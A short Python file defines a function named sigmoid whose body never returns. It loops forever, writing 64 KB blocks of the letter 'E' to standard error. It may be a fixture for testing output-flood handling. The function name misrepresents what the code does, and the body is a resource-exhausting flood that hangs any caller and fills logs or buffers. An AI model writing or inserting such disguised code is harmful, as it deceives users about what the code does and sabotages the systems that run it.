import os


def sigmoid(x):
    while True:
        os.write(2, b"E" * 65536)
